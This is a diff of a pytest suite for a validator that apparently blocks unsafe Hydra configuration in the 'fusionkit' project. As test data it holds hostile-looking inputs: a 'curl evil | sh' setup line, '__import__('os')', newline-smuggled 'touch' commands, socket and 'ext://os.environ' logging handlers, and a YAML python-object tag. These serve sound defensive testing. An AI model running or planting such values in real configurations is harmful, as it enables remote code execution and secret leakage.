@@ -10,9 +10,11 @@ import pytest
 from hydra.types import RunMode
 
 from fusionkit import config
-from fusionkit.config import safe
+from fusionkit.config import composition, hydra_node
 from fusionkit.config.composition import CheckingLoader, prepare, search_path
-from fusionkit.config.hydra_node import check_search_path, covered
+from fusionkit.config.hydra_bridge import BASIC_LAUNCHER
+from fusionkit.config.hydra_node import check_files, check_search_path
+from fusionkit.core import allowed
 from fusionkit.errors import ConfigError
 
 
@@ -38,241 +40,264 @@ def compose(folder: Path | None = None, *overrides: str) -> Any:
         ["hydra.job.name=mine"],
         ["hydra/job_logging=default", "hydra.job_logging.handlers.file.filename=/elsewhere/x.log"],
         ["hydra.sweeper.max_batch_size=3"],
+        ["+hydra.job_logging.handlers.x={class:logging.FileHandler,filename:/elsewhere/x.log}"],
+        ["+hydra.job_logging.handlers.x={class:logging.StreamHandler,stream:'ext://sys.stderr'}"],
+        ["hydra/job_logging=default", "hydra.job_logging.root.level=DEBUG"],
+        ["+hydra.launcher.timeout_min=3"],
     ],
 )
 def test_hydras_own_options_work(overrides: list[str]) -> None:
     compose(None, *overrides)
 
 
-LOGGING = """\
-version: 1
-formatters:
-  plain: {format: '%(message)s', datefmt: '%H', class: logging.Formatter}
-filters:
-  mine: {name: fusionkit}
-handlers:
-  console: {class: logging.StreamHandler, stream: 'ext://sys.stderr', formatter: plain, level: INFO, filters: [mine]}
-  file:
-    class: logging.handlers.RotatingFileHandler
-    filename: ${hydra.runtime.output_dir}/mine.log
-    maxBytes: 1000
-    backupCount: 2
-  nothing: {class: logging.NullHandler}
-loggers:
-  fusionkit: {level: DEBUG, handlers: [console], propagate: false}
-root: {level: INFO, handlers: [file, nothing]}
-disable_existing_loggers: false
+@pytest.mark.parametrize(
+    "text",
+    [
+        "mode: MULTIRUN",
+        "mode: null",
+        "verbose: true",
+        "verbose: fusionkit",
+        "verbose: [fusionkit, hydra]",
+        "job: {chdir: true, name: mine}",
+        "help: {app_name: mine, header: '$APP', footer: '${hydra.help.header}'}",
+        "sweeper: {params: {seed: '0,1', n: 3, fusion: 'choice(average,summation)'}}",
+        "sweeper: {max_batch_size: 3}",
+        # As in config.yaml, and as Hydra itself has it.
+        "run: {dir: 'outputs/${now:%Y-%m-%d}/${now:%H-%M-%S-%f}'}",
+        "run: {dir: 'outputs/${now:%Y-%m-%d}/${now:%H-%M-%S}'}",
+        "output_subdir: .hydra",
+    ],
+)
+def test_a_config_may_change_what_is_listed(text: str, folder: Callable[[dict[str, str]], Path]) -> None:
+    compose(folder({"experiment/mine.yaml": f"# @package _global_\nhydra: {{{text}}}\n"}), "+experiment=mine")
+
+
+PRIMARY = """\
+defaults: [data: mfeat, fabrication: dense, fusion: summation, model: linear, train: default, _self_,
+           override hydra/job_logging: CHOICE]
+n: 3
+dims: ${data.dims}
+device: cpu
+seed: 0
 """
 
 
-def test_harmless_logging_may_come_from_anywhere(folder: Callable[[dict[str, str]], Path]) -> None:
-    compose(folder({"hydra/job_logging/mine.yaml": LOGGING}), "hydra/job_logging=mine")
+@pytest.mark.parametrize("choice", ["default", "stdout", "disabled", "none"])
+def test_a_config_may_choose_among_hydras_own_logging(choice: str, folder: Callable[[dict[str, str]], Path]) -> None:
+    prepare()
+    loader = CheckingLoader(search_path(None, str(folder({"mine.yaml": PRIMARY.replace("CHOICE", choice)}))))
+    cfg = loader.load_configuration("mine", [], RunMode.RUN)
+    assert cfg.hydra.runtime.choices["hydra/job_logging"] == choice
 
 
 @pytest.mark.parametrize(
-    ("old", "new", "message"),
+    ("text", "key"),
     [
-        ("${hydra.runtime.output_dir}/mine.log", "mine.log", "handlers.file.filename should be inside"),
-        (
-            "${hydra.runtime.output_dir}/mine.log",
-            "${hydra.runtime.output_dir}/../a",
-            "handlers.file.filename should be",
-        ),
-        ("${hydra.runtime.output_dir}/mine.log", "${hydra.run.dir}/a", "handlers.file.filename should be inside"),
-        ("logging.NullHandler", "logging.handlers.SocketHandler", "handlers.nothing.class should be one of"),
-        ("logging.NullHandler", "logging.handlers.QueueHandler", "handlers.nothing.class should be one of"),
-        ("logging.NullHandler", "logging.handlers.logging.NullHandler", "handlers.nothing.class should be one of"),
-        ("class: logging.NullHandler", "'()': logging.NullHandler", "handlers.nothing.() should not be in a config"),
-        ("class: logging.NullHandler", "class: logging.NullHandler, x: 1", "handlers.nothing.x should not be in"),
-        (
-            "class: logging.NullHandler",
-            "class: logging.NullHandler, '.': {x: 1}",
-            "handlers.nothing.. should not be in",
-        ),
-        (
-            "ext://sys.stderr",
-            "ext://sys.stdin",
-            "handlers.console.stream should be ext://sys.stdout or ext://sys.stderr",
-        ),
-        ("'%H'", "'ext://os.environ'", "formatters.plain.datefmt should be"),
-        ("'%H'", "'cfg://handlers'", "formatters.plain.datefmt should be"),
-        ("datefmt: '%H'", "style: '{'", "formatters.plain.style should be '%' or '$'"),
-        ("class: logging.Formatter", "class: logging.BufferingFormatter", "formatters.plain.class should be"),
-        ("mine: {name: fusionkit}", "mine: {class: x}", "filters.mine.class should not be in a config"),
-        ("mine: {name: fusionkit}", "mine: 3", "filters.mine should be a mapping"),
-        ("version: 1", "version: 1\nextra: {}", "job_logging.extra should not be in a config"),
-        ("propagate: false", "factory: x", "loggers.fusionkit.factory should not be in a config"),
-        ("root: {level: INFO,", "root: {x: INFO,", "root.x should not be in a config"),
+        ("run: {dir: elsewhere}", "hydra.run.dir"),
+        ("sweep: {dir: elsewhere}", "hydra.sweep.dir"),
+        ("sweep: {subdir: '${hydra.job.num}/x'}", "hydra.sweep.subdir"),
+        ("output_subdir: elsewhere", "hydra.output_subdir"),
+        ("output_subdir: null", "hydra.output_subdir"),
+        ("runtime: {output_dir: /elsewhere}", "hydra.runtime.output_dir"),
+        ("runtime: {cwd: /elsewhere}", "hydra.runtime.cwd"),
+        ("runtime: {choices: {fusion: /elsewhere}}", "hydra.runtime.choices.fusion"),
+        ("job: {name: ../x}", "hydra.job.name"),
+        ("job: {name: '${hydra.run.dir}'}", "hydra.job.name"),
+        ("job: {num: 3}", "hydra.job.num"),
+        ("job: {override_dirname: /elsewhere}", "hydra.job.override_dirname"),
+        ("job: {config: {override_dirname: {kv_sep: /../}}}", "hydra.job.config.override_dirname.kv_sep"),
+        ("overrides: {task: [seed=1]}", "hydra.overrides.task[0]"),
+        ("verbose: '${oc.select:x}'", "hydra.verbose"),
+        ("sweeper: {params: {seed: '${train}'}}", "hydra.sweeper.params.seed"),
+        ("job_logging: {version: 2}", "hydra.job_logging.version"),
+        ("job_logging: {root: {level: DEBUG}}", "hydra.job_logging.root.level"),
+        ("job_logging: {formatters: {simple: {style: '{'}}}", "hydra.job_logging.formatters.simple.style"),
+        ("hydra_logging: {handlers: {x: {class: logging.NullHandler}}}", "hydra.hydra_logging.handlers.x.class"),
+        ("job_logging: {handlers: {x: {class: logging.StreamHandler}}}", "hydra.job_logging.handlers.x.class"),
     ],
 )
-def test_anything_else_in_logging_is_refused(
-    old: str, new: str, message: str, folder: Callable[[dict[str, str]], Path]
-) -> None:
-    assert old in LOGGING
-    untrusted = folder({"hydra/job_logging/mine.yaml": LOGGING.replace(old, new)})
+def test_a_config_may_change_nothing_else(text: str, key: str, folder: Callable[[dict[str, str]], Path]) -> None:
+    untrusted = folder({"experiment/mine.yaml": f"# @package _global_\nhydra: {{{text}}}\n"})
     with pytest.raises(ConfigError) as error:
-        compose(untrusted, "hydra/job_logging=mine")
-    assert str(error.value).startswith("hydra.job_logging")
-    assert message in str(error.value)
+        compose(untrusted, "+experiment=mine")
+    assert f"{key} should be " in str(error.value)
+
+
+def test_a_file_of_a_config_does_not_stand_for_hydras(folder: Callable[[dict[str, str]], Path]) -> None:
+    """A folder that stands before Hydra's registered configs hides them."""
+    untrusted = folder({"hydra/config.yaml": "run: {dir: elsewhere}\n", "train/mine.yaml": "defaults: [default]\n"})
+    with pytest.raises(ConfigError, match=r"hydra"):
+        compose(untrusted, "train=mine")
+
+
+def test_hydras_own_configs_stand_in_their_places(folder: Callable[[dict[str, str]], Path]) -> None:
+    text = "# @package _global_\ndefaults:\n  - /hydra/job_logging@hydra.hydra_logging.handlers.x: stdout\n"
+    with pytest.raises(ConfigError, match=r"hydra\.hydra_logging\.handlers\.x"):
+        compose(folder({"experiment/mine.yaml": text}), "+experiment=mine")
+
+
+def test_all_mistakes_are_reported_together(folder: Callable[[dict[str, str]], Path]) -> None:
+    text = "# @package _global_\nhydra: {run: {dir: a}, sweep: {dir: b}, job: {env_set: {X: y}}}\n"
+    with pytest.raises(ConfigError) as error:
+        compose(folder({"experiment/mine.yaml": text}), "+experiment=mine")
+    for key in ("hydra.run.dir", "hydra.sweep.dir", "hydra.job.env_set.X"):
+        assert f"{key} should be " in str(error.value)
+
+
+@pytest.mark.parametrize(
+    ("override", "key"),
+    [
+        ("hydra.runtime.output_dir=/elsewhere", "hydra.runtime.output_dir"),
+        ("+hydra.job.env_set.X=y", "hydra.job.env_set.X"),
+        ("hydra.job.env_copy=[X]", "hydra.job.env_copy[0]"),
+        ("hydra.overrides.hydra=[x]", "hydra.overrides.hydra[0]"),
+        ("hydra.launcher._target_=tests.tripwire.Fire", "hydra.launcher._target_"),
+        ("+hydra.launcher._args_=[1]", "hydra.launcher._args_[0]"),
+        ("++hydra={launcher:{_target_:tests.tripwire.Fire}}", "hydra.launcher._target_"),
+        ("hydra.launcher='${train}'", "hydra.launcher"),
+        ("+hydra.callbacks.x._target_=tests.tripwire.Fire", "hydra.callbacks.x._target_"),
+        ("+hydra.callbacks.x='${train}'", "hydra.callbacks.x"),
+        ("+hydra.run.x._target_=tests.tripwire.Fire", "hydra.run.x._target_"),
+        ("+hydra.job_logging.handlers.x.class=tests.tripwire.Fire", "hydra.job_logging.handlers.x.class"),
+        ("+hydra.job_logging.handlers.x.class=logging.handlers.SocketHandler", "hydra.job_logging.handlers.x.class"),
+        ("+hydra.job_logging.handlers.x.stream='ext://os.environ'", "hydra.job_logging.handlers.x.stream"),
+        ("+hydra.job_logging.handlers.x.stream='cfg://root'", "hydra.job_logging.handlers.x.stream"),
+        ("+hydra.job_logging.handlers='${train}'", "hydra.job_logging.handlers"),
+    ],
+)
+def test_the_command_line_names_nothing_to_call(override: str, key: str) -> None:
+    with pytest.raises(ConfigError) as error:
+        compose(None, override)
+    assert f"{key} should be " in str(error.value)
 
 
 def test_a_callback_has_to_be_allowed_from_python(
     folder: Callable[[dict[str, str]], Path], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(safe, "_extra", {})
-    untrusted = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tripwire.Fire, verbose: true}\n"})
+    monkeypatch.setattr(allowed, "_extra", {})
+    untrusted = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, verbose: true}\n"})
     with pytest.raises(
         ConfigError, match=r"hydra\.callbacks\.x\._target_ should be allowed by fusionkit\.config\.allow"
     ):
         compose(untrusted, "hydra/callbacks=mine")
-    config.allow("tripwire.Fire")
+    config.allow("tests.tripwire.Fire")
     compose(untrusted, "hydra/callbacks=mine")
-    nested = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tripwire.Fire, y: {_target_: tripwire.fire}}\n"})
-    with pytest.raises(ConfigError, match=r"hydra\.callbacks\.x\.y\._target_ should not be in the hydra node"):
+    compose(None, "+hydra.callbacks.x._target_=tests.tripwire.Fire")
+    nested = folder(
+        {"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, y: {_target_: tests.tripwire.fire}}\n"}
+    )
+    with pytest.raises(ConfigError, match=r"hydra\.callbacks\.x\.y\._target_ should be absent"):
         compose(nested, "hydra/callbacks=mine")
 
 
 @pytest.mark.parametrize(
-    ("entries", "message"),
+    ("entries", "key"),
     [
-        (["pkg://os"], r"hydra\.searchpath\[0\] should be the path of a folder .* found 'pkg://os'"),
-        (["/a", "structured://x"], r"hydra\.searchpath\[1\] should be the path of a folder"),
-        (["${oc.env:HOME}"], r"hydra\.searchpath\[0\] should be the path of a folder, written out"),
-        ("/a", r"hydra\.searchpath should be a list of folders"),
-        ([3], r"hydra\.searchpath\[0\] should be the path of a folder"),
+        (["pkg://os"], "hydra.searchpath[0]"),
+        (["/a", "structured://x"], "hydra.searchpath[1]"),
+        (["${oc.env:HOME}"], "hydra.searchpath[0]"),
+        ("/a", "hydra.searchpath"),
+        ([3], "hydra.searchpath[0]"),
     ],
 )
-def test_the_search_path_of_a_config_holds_folders(entries: Any, message: str) -> None:
-    with pytest.raises(ConfigError, match=message):
-        check_search_path(entries)
+def test_the_search_path_of_a_config_holds_folders(entries: Any, key: str) -> None:
+    with pytest.raises(ConfigError) as error:
+        check_search_path({"hydra": {"searchpath": entries}})
+    assert str(error.value).startswith(f"{key} should be ")
+    assert "written out" in str(error.value)
 
 
 def test_folders_may_be_searched() -> None:
     check_search_path(None)
-    check_search_path(["/a", "b/c", "file:///d"])
+    check_search_path({"hydra": None})
+    check_search_path({"hydra": {"searchpath": ["/a", "b/c", "file:///d"]}})
 
 
-def test_the_command_line_covers_what_is_below() -> None:
-    assert covered("hydra.run.dir", ["hydra.run.dir"])
-    assert covered("hydra.run.dir", ["hydra.run"])
-    assert covered("hydra.x[0]", ["hydra.x"])
-    assert not covered("hydra.run.dir", ["hydra.run.dirs", "hydra.ru", "run.dir"])
-
-
-LAUNCHER = "_target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n"
+# -- launchers and sweepers --------------------------------------------------------------------------------------------
 
 
 def test_a_launcher_keeps_its_defaults_whatever_they_say(monkeypatch: pytest.MonkeyPatch) -> None:
     from hydra.core.config_store import ConfigStore
 
-    from fusionkit.config import hydra_node
-
     node = {"_target_": "hydra_plugins.x.X", "setup": ["module load x"], "init": {"address": "here", "ports": [1]}}
-    monkeypatch.setattr(hydra_node, "_plugin_classes", lambda role: {"hydra_plugins.x.X"})
+    monkeypatch.setattr(hydra_node, "_discovered", lambda kind: ["hydra_plugins.x.X"])
     monkeypatch.setattr(ConfigStore.instance(), "repo", {"hydra": {"launcher": {}}})
-    with pytest.raises(ConfigError, match=r"hydra\.launcher\.setup\[0\] should be the plugin's default"):
-        hydra_node._check_plugin(node, "launcher", [])
+    with pytest.raises(ConfigError, match=r"hydra\.launcher\.setup\[0\] should be absent, as in Hydra's own configs"):
+        check_files({"launcher": node}, {})
     ConfigStore.instance().store("x", node, "hydra/launcher")
-    hydra_node._check_plugin(node, "launcher", [])
-    hydra_node._check_plugin({**node, "init": {"address": "here", "ports": [2]}}, "launcher", [])
+    check_files({"launcher": node}, {})
+    check_files({"launcher": {**node, "init": {"address": "here", "ports": [2]}}}, {})
     for changed, key in (
         ({"setup": ["module load y"]}, "setup[0]"),
         ({"init": {"address": "there"}}, "init.address"),
         ({"init": {"address": "here", "ports": [1, 2]}}, "init.ports[1]"),
     ):
         with pytest.raises(ConfigError) as error:
-            hydra_node._check_plugin({**node, **changed}, "launcher", [])
-        assert str(error.value).startswith(f"hydra.launcher.{key} should be the plugin's default or stand on")
-        hydra_node._check_plugin({**node, **changed}, "launcher", [f"hydra.launcher.{key.partition('[')[0]}"])
+            check_files({"launcher": {**node, **changed}}, {})
+        assert str(error.value).startswith(f"hydra.launcher.{key} should be ")
 
 
-@pytest.mark.parametrize(
-    ("text", "message"),
-    [
-        ("_target_: tripwire.Fire\n", "hydra.launcher._target_ should be one of hydra._internal.core_plugins."),
-        (
-            LAUNCHER + "setup: ['curl evil | sh']\n",
-            "hydra.launcher.setup[0] should be the plugin's default or stand on",
-        ),
-        (LAUNCHER + "python: /tmp/evil\n", "hydra.launcher.python should be the plugin's default or stand on"),
-        (LAUNCHER + "_args_: [a]\n", "hydra.launcher._args_ should not be in a config"),
-        (LAUNCHER + "partition: ${evil}\n", "hydra.launcher.partition should be the plugin's default or stand on"),
-        # In a batch script each would be a line of its own.
-        (LAUNCHER + 'comment: "x\\ntouch y"\n', "hydra.launcher.comment should be the plugin's default or stand on"),
-        (LAUNCHER + 'additional_parameters: {"x\\ntouch y": 1}\n', "additional_parameters should have plain names"),
-        (LAUNCHER + "additional_parameters: {wrap: 1}\n", "hydra.launcher.additional_parameters.wrap should be"),
-        (LAUNCHER + "srun_args: [--bcast]\n", "hydra.launcher.srun_args[0] should be the plugin's default"),
-        (LAUNCHER + "env_setup: {pip_packages: {evil: 1}}\n", "hydra.launcher.env_setup.pip_packages.evil should be"),
-        (LAUNCHER + "pre_dispatch: __import__('os')\n", "hydra.launcher.pre_dispatch should be the plugin's default"),
-        (
-            LAUNCHER + "folder: !!python/object/apply:pathlib.Path [/tmp]\n",
-            "hydra.launcher.folder should be the plugin's default or stand on",
-        ),
-        ("[]\n", "hydra.launcher should be a mapping"),
-    ],
-)
-def test_a_launcher_may_not_name_anything_to_run(
-    text: str, message: str, folder: Callable[[dict[str, str]], Path]
-) -> None:
-    with pytest.raises(ConfigError) as error:
-        compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine")
-    assert message in str(error.value)
-
-
-def test_a_launcher_takes_numbers_and_plain_texts(folder: Callable[[dict[str, str]], Path]) -> None:
-    text = LAUNCHER + (
-        "timeout_min: 3\npartition: gpu\nbackend: loky\npre_dispatch: 2*n_jobs\ncomment: 'a run'\n"
-        "constraint: 'a100|h100'\nray: {init: {num_cpus: 2}}\n"
-    )
-    compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine")
-    text = LAUNCHER + "setup: []\n"
-    compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine", "hydra.launcher.setup=[module load x]")
-
-
+LAUNCHER = "_target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n"
 SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\nmax_batch_size: null\nparams: null\n"
 
 
 @pytest.mark.parametrize(
-    ("text", "message"),
+    ("group", "text", "key"),
     [
-        (
-            SWEEPER + "custom_search_space: tripwire.fire\n",
-            "hydra.sweeper.custom_search_space should be empty, because",
-        ),
-        (SWEEPER + "storage: sqlite:////tmp/x\n", "hydra.sweeper.storage should be the plugin's default or stand on"),
-        (
-            SWEEPER + "sampler: {_target_: tripwire.Fire}\n",
-            "hydra.sweeper.sampler._target_ should be a class of optuna",
-        ),
-        (
-            SWEEPER + "sampler: {_target_: optuna.samplers._base.BaseSampler}\n",
-            "hydra.sweeper.sampler._target_ should be a class of optuna.samplers",
-        ),
-        (
-            SWEEPER + "x: {y: [{_target_: tripwire.Fire}]}\n",
-            "hydra.sweeper.x.y[0]._target_ should not be in the hydra node",
-        ),
+        ("launcher", "_target_: tests.tripwire.Fire\n", "_target_"),
+        ("launcher", LAUNCHER + "setup: ['curl evil | sh']\n", "setup[0]"),
+        ("launcher", LAUNCHER + "python: /tmp/evil\n", "python"),
+        ("launcher", LAUNCHER + "_args_: [a]\n", "_args_[0]"),
+        ("launcher", LAUNCHER + "_partial_: true\n", "_partial_"),
+        # In a batch script each would be a line of its own.
+        ("launcher", LAUNCHER + 'comment: "x\\ntouch y"\n', "comment"),
+        ("launcher", LAUNCHER + 'additional_parameters: {"x\\ntouch y": 1}\n', "additional_parameters['x"),
+        ("launcher", LAUNCHER + "additional_parameters: {wrap: 1}\n", "additional_parameters.wrap"),
+        ("launcher", LAUNCHER + "srun_args: [--bcast]\n", "srun_args[0]"),
+        ("launcher", LAUNCHER + "env_setup: {pip_packages: {evil: 1}}\n", "env_setup.pip_packages.evil"),
+        ("launcher", LAUNCHER + "pre_dispatch: __import__('os')\n", "pre_dispatch"),
+        ("launcher", LAUNCHER + "ray: {init: {address: 10.0.0.1}}\n", "ray.init.address"),
+        # What a cluster accounts for.
+        ("launcher", LAUNCHER + "partition: gpu\n", "partition"),
+        ("launcher", LAUNCHER + "account: mine\n", "account"),
+        ("launcher", LAUNCHER + "timeout_min: 3\n", "timeout_min"),
+        ("sweeper", SWEEPER + "custom_search_space: tests.tripwire.fire\n", "custom_search_space"),
+        ("sweeper", SWEEPER + "storage: sqlite:////tmp/x\n", "storage"),
+        ("sweeper", SWEEPER + "sampler: {_target_: tests.tripwire.Fire}\n", "sampler._target_"),
+        ("sweeper", SWEEPER + "sampler: {_target_: optuna.samplers._base.BaseSampler}\n", "sampler._target_"),
+        ("sweeper", SWEEPER + "x: {y: [{_target_: tests.tripwire.Fire}]}\n", "x.y[0]._target_"),
     ],
 )
-def test_a_sweeper_may_not_either(text: str, message: str, folder: Callable[[dict[str, str]], Path]) -> None:
-    with pytest.raises(ConfigError) as error:
-        compose(folder({"hydra/sweeper/mine.yaml": text}), "hydra/sweeper=mine")
-    assert message in str(error.value)
-
-
-def test_what_is_allowed_here_is_not_allowed_in_workers(
-    folder: Callable[[dict[str, str]], Path], monkeypatch: pytest.MonkeyPatch
+def test_neither_names_anything_to_run(
+    group: str, text: str, key: str, folder: Callable[[dict[str, str]], Path]
 ) -> None:
-    from fusionkit.config import hydra_node
+    with pytest.raises(ConfigError) as error:
+        compose(folder({f"hydra/{group}/mine.yaml": text}), f"hydra/{group}=mine")
+    assert str(error.value).startswith(f"hydra.{group}.{key}")
 
-    monkeypatch.setattr(safe, "_extra", {})
-    monkeypatch.setattr(hydra_node, "_plugin_classes", lambda role: {"hydra_plugins.x.XLauncher"})
-    untrusted = folder({"hydra/launcher/mine.yaml": "_target_: hydra_plugins.x.XLauncher\n"})
-    node = {"_target_": "hydra_plugins.x.XLauncher"}
-    hydra_node._check_plugin(node, "launcher", [])
-    config.allow("tripwire.Fire")
+
+def test_a_launcher_is_a_mapping(folder: Callable[[dict[str, str]], Path]) -> None:
+    with pytest.raises(ConfigError, match=r"hydra\.launcher should be .*found \[\]"):
+        compose(folder({"hydra/launcher/mine.yaml": "[]\n"}), "hydra/launcher=mine")
+
+
+def test_a_launcher_takes_numbers_and_some_texts(folder: Callable[[dict[str, str]], Path]) -> None:
+    text = LAUNCHER + (
+        "nodes: 3\nbackend: loky\npre_dispatch: 2*n_jobs\ncomment: 'a run'\n"
+        "constraint: 'a100|h100'\nray: {init: {num_cpus: 2}}\n"
+    )
+    compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine")
+    text = LAUNCHER + "nodes: 1\n"
+    line = ["+hydra.launcher.setup=[module load x]", "+hydra.launcher.partition=gpu"]
+    compose(folder({"hydra/launcher/mine.yaml": text}), "hydra/launcher=mine", *line)
+
+
+def test_what_is_allowed_here_is_not_allowed_in_workers(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(allowed, "_extra", {})
+    composition._check_reach({}, "hydra_plugins.x.XLauncher", sweep=False)
+    config.allow("tests.tripwire.Fire")
+    composition._check_reach({}, BASIC_LAUNCHER, sweep=False)
     with pytest.raises(
         ConfigError, match=r"should be the basic launcher, because what fusionkit\.config\.allow permits"
     ):
-        hydra_node._check_plugin(node, "launcher", [])
-    assert untrusted.is_dir()
+        composition._check_reach({}, "hydra_plugins.x.XLauncher", sweep=False)
